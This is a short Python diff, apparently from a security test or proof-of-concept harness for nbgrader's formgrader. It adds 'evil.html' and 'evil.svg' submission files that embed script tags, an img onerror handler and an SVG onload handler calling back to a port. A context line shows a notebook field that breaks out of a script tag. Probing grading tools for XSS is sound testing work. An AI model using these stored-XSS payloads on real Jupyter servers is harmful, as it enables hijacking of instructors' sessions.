@@ -158,3 +158,14 @@ def inject_raw_outputs(path, port):
         "state": {}, "version_major": 2, "version_minor": 0,
         "evil": f"</script><script>{js('raw-widget-state', port)}</script>"}}
     nbformat.write(notebook, path)
+
+
+def extra_files(port):
+    """Files handed in beside the notebook: nbgrader copies them into autograded/, and the formgrader serves
+    them on the Jupyter server's origin (/formgrader/submissions/<id>/<file>)."""
+    return {
+        "evil.html": f"<html><head><title>evil</title></head><body><script>{js('file-html', port)}</script>"
+                     f'<img src="x" onerror="{js("file-html-img", port)}"></body></html>',
+        "evil.svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js("file-svg", port)}">'
+                    f"<script>{js('file-svg-script', port)}</script></svg>",
+    }
